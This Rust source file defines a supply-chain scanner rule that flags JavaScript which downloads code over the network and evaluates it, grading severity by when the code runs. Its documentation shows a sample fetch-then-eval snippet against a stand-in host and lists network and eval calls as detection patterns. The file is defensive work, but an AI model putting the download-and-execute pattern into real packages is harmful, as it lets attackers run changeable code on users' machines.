//! JS-REMOTE-CODE-EVAL: JavaScript that fetches code over the network and evaluates it.

use ossprey_model::{Category, Finding, Severity};
use ossprey_static::analysis::RunsAt;

use super::common::{context, evaluates_computed_code, is_js_network, js_sources};
use super::remote_command::CHANNELS;
use crate::{Input, Rule, finding};

/// ## What it does
/// Finds a JavaScript file that both makes a network request (`https.get`, `fetch`,
/// `axios`, `request`, …) or opens a server or socket (`net.createServer`, a WebSocket)
/// and evaluates code that is not written in the file
/// (`eval(body)`, `new Function(res.data)`, `vm.runInThisContext(s)`) from inside a
/// callback — the shape of "download the payload, then run it". Critical when the
/// file runs at install time, or at import time with the request at top level; high
/// when it runs at import time otherwise; low in runtime-only code, where polyfills and
/// module loaders have the same shape.
///
/// ## Why is this bad?
/// A package that runs code it downloads ships none of its real behaviour: the payload
/// can change after review, per victim, or only on the attacker's schedule. Libraries
/// do not need to evaluate what a server sends them.
///
/// ## Example
/// ```javascript
/// const https = require("https");
/// https.get("https://example.invalid/stage2.js", (r) => {
///   let s = ""; r.on("data", (d) => (s += d)); r.on("end", () => eval(s));
/// });
/// ```
#[derive(Debug)]
pub struct RemoteCodeEval;

impl Rule for RemoteCodeEval {
    fn id(&self) -> &'static str {
        "JS-REMOTE-CODE-EVAL"
    }
    fn category(&self) -> Category {
        Category::DOWNLOAD_EXECUTE
    }
    fn summary(&self) -> &'static str {
        "fetches code over the network and evaluates it"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for (file, facts) in js_sources(input) {
            let Some(net) = facts
                .calls
                .iter()
                .find(|c| is_js_network(&c.callee) || CHANNELS.contains(&c.callee.as_str()))
            else {
                continue;
            };
            // Evaluation inside a callback (`.then(t => eval(t))`, `res.on("end", …)`)
            // is what follows a response; a named function is a library's own helper.
            let Some(eval) = facts.calls.iter().find(|c| {
                evaluates_computed_code(c)
                    && c.scope
                        .as_deref()
                        .is_some_and(|s| s.starts_with('<') || s.is_empty())
            }) else {
                continue;
            };
            let severity = match (context(input, file), net.scope.is_none()) {
                (RunsAt::Install, _) | (RunsAt::Import, true) => Severity::Critical,
                (RunsAt::Import, false) => Severity::High,
                (RunsAt::Runtime, _) => Severity::Low,
            };
            out.push(finding(
                self.id(),
                severity,
                self.category(),
                format!(
                    "`{}` evaluates computed code in a callback of a file that fetches with `{}` (line {})",
                    eval.callee, net.callee, net.line
                ),
                Some(&file.path),
                Some(eval.line),
                Some(&eval.snippet),
            ));
        }
    }
}
